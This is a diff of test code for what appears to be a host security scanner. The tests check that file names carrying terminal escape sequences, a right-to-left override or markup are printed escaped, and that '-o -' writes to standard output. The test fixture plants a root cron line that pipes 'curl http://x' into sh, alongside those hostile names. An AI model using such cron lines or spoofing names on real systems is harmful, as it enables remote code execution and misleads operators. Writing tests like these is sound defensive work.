@@ -606,3 +606,38 @@ def test_this_machines_own_scripts_and_programs_raise_nothing_serious() -> None:
         and f["severity"] in ("medium", "high")
     ]
     assert new_rules == []
+
+
+HOSTILE_NAMES = (
+    "job\x1b[2J",  # clears the screen
+    "t\x1b]0;owned\x07",  # sets the window title
+    "bidi\u202egpj.exe",  # right-to-left override
+    "c1\x9b31m",  # a C1 control
+    "[bold red]markup",  # rich markup, to be shown as written
+)
+
+
+@pytest.mark.parametrize("fmt", ["table", "text", "markdown"])
+def test_device_names_cannot_drive_the_terminal(tmp_path: Path, fmt: str) -> None:
+    root = packaged_debian_root(tmp_path / "disk")
+    for name in HOSTILE_NAMES:
+        # a cron script that downloads and runs code, under a name the abuser chose
+        write(root, f"/etc/cron.d/{name}", "* * * * * root curl http://x | sh\n", 0o644)
+    code, out, err = run("scan", "--root", str(root), "--format", fmt)
+    assert code == 0, err
+    for raw in ("\x1b", "\x07", "\u202e", "\x9b"):
+        assert raw not in out
+    assert "\\x1b[2J" in out and "\\u202e" in out
+    # Markup in a name is shown as written, not obeyed (table cells wrap: compare unwrapped).
+    unwrapped = "".join(c for c in out if not c.isspace() and c not in "│┃|")
+    assert "[boldred]markup" in unwrapped
+
+
+def test_output_dash_is_standard_output(tmp_path: Path) -> None:
+    root = packaged_debian_root(tmp_path / "disk")
+    code, out, err = run("scan", "--root", str(root), "--format", "json", "-o", "-")
+    assert code == 0, err
+    assert json.loads(out)["host"]["platform"] == "linux"
+    assert not (Path.cwd() / "-").exists()
+    code, _, err = run("scan", "--root", str(root), "-o", "/dev/null", "--force")
+    assert code == 2 and "not a regular file" in err
